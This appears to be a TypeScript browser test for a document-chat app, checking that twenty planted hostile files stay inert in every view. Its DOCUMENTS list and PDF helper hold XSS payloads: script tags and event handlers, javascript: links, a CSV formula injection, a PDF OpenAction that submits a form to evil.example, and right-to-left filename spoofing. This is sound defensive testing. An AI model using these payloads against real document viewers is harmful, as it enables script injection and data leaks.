import { mkdtemp, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { makeDocx, makePdf, nastyPdfs, paragraph } from '@docchat/core/testing'
import { expect, it } from 'vitest'
import { skipBrowser } from '../../../../scripts/chromium.ts'
import { startPage } from '../testing/start-page.ts'

const ELSEWHERE = 'https://evil.example'
const SCRIPT = `<script>document.title = 'owned'; fetch('${ELSEWHERE}')</script>`
const IMAGE = `<img src="${ELSEWHERE}/a.png" onerror="document.title = 'owned'">`
const LINK = "[the zebra](javascript:document.title='owned') ![zebra](https://evil.example/b.png)"

/** What somebody else may have put into a folder: each says something about zebras. */
const DOCUMENTS: Readonly<Record<string, string | Buffer>> = {
  'script.html': `<title>${IMAGE}</title><p>The zebra of page one costs 41 euros.</p>${SCRIPT}`,
  'image.html': `<p>The zebra eats 3 apples a day. ${IMAGE}</p>`,
  'encoded.html':
    '<p>The zebra said &lt;script&gt;document.title = 1&lt;/script&gt; &lt;b&gt;aloud&lt;/b&gt;.</p>',
  'svg.html': `<svg onload="document.title = 'owned'"><text>The zebra runs 60 km an hour.</text></svg>`,
  'style.html': `<style>@import url(${ELSEWHERE})</style><p style="background:url(${ELSEWHERE})">The zebra is striped.</p>`,
  'frame.html': `<iframe src="${ELSEWHERE}"></iframe><base href="${ELSEWHERE}"><p>The zebra sleeps 7 hours.</p>`,
  'refresh.html': `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}"><p>The zebra weighs 300 kg.</p>`,
  'form.html': `<form action="${ELSEWHERE}"><input autofocus onfocus="document.title = 'owned'"></form><p>The zebra has 4 legs.</p>`,
  'link.md': `# ${LINK}\n\nThe zebra lives in Kenya. ${LINK}`,
  'raw.md': `The zebra drinks 10 litres. ${SCRIPT} ${IMAGE}`,
  'reference.md': `The zebra barks [1].\n\n[1]: ${ELSEWHERE}\n[^1]: ${ELSEWHERE}`,
  'reordered.txt': 'The zebra file is \u202egpj.exe\u202c and harmless.',
  'tags.txt': `The zebra wrote ${SCRIPT}${IMAGE} on the wall.`,
  'formula.csv': `animal,note\nzebra,"=HYPERLINK(""${ELSEWHERE}"")"\nzebra,${IMAGE.replaceAll('"', "'")}`,
  'word.docx': makeDocx(paragraph(`The zebra of the contract is ${SCRIPT.replaceAll('<', '&lt;')}`)),
  'opens.pdf': withAction(makePdf(['The zebra opens a page.'])),
  'tags.pdf': makePdf([`The zebra wrote ${SCRIPT.replaceAll(/[()]/g, '')}`]),
  'itself.pdf': nastyPdfs['a form that draws itself']?.() ?? '',
  "<img src=x onerror=document.title='owned'>.txt": 'The zebra has a name.',
  '\u202efdp.zebra.txt': 'The zebra is called by another name.',
}

/** A PDF that runs a script and sends a form when it is opened. */
function withAction(pdf: Buffer): Buffer {
  const action = `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\); this.submitForm\\("${ELSEWHERE}"\\)) >>`
  return Buffer.from(pdf.toString('latin1').replace('/Type /Catalog', `/Type /Catalog ${action}`), 'latin1')
}

it.skipIf(skipBrowser)(
  '20 hostile documents are inert in every view (skipped without Chromium, never in CI)',
  {
    timeout: 240_000,
  },
  async () => {
    const folder = await mkdtemp(join(tmpdir(), 'docchat-hostile-'))
    await using started = await startPage()
    const page = await started.open()
    let dialogs = 0
    page.on('dialog', (dialog) => {
      dialogs++
      void dialog.dismiss()
    })
    const inert = async () => {
      expect(await page.title()).toBe('DocChat')
      expect(started.faults).toEqual([])
      expect(dialogs).toBe(0)
    }
    try {
      const names = Object.keys(DOCUMENTS)
      expect(names).toHaveLength(20)
      const paths = await Promise.all(
        names.map(async (name) => {
          const path = join(folder, name.replaceAll('/', '_'))
          await writeFile(path, DOCUMENTS[name] ?? '')
          return path
        }),
      )
      const ids = await started.add(...paths)
      await page.goto(`${started.url}/#/documents`)
      await page.reload()
      await page.getByRole('heading', { name: 'Documents' }).waitFor()
      await inert()
      await page.goto(`${started.url}/#/`)
      const sources = page.getByRole('list', { name: 'Documents' }).getByRole('button')
      await expect.poll(() => sources.count()).toBeGreaterThan(10)
      const seen = new Set<string>()
      for (let n = 0; n < (await sources.count()); n++) {
        await sources.nth(n).click()
        const source = page.getByRole('complementary', { name: 'Source' })
        await source.getByRole('heading').first().waitFor()
        seen.add((await source.getByRole('heading').first().textContent()) ?? '')
        await page.waitForTimeout(150)
        await inert()
      }
      expect(seen.size).toBeGreaterThan(10)
      expect(ids).toHaveLength(20)
      for (const question of ['What does the zebra cost and eat?', 'What did the zebra write on the wall?']) {
        await page.getByRole('textbox', { name: 'Question' }).fill(question)
        await page.keyboard.press('Enter')
        await page.getByRole('heading', { name: question }).waitFor()
        await page.getByText('The answer is complete.').waitFor({ state: 'attached' })
        await page
          .getByRole('button', { name: /^Citation 1/ })
          .last()
          .click()
        await inert()
      }
    } finally {
      await rm(folder, { recursive: true, force: true })
    }
  },
)
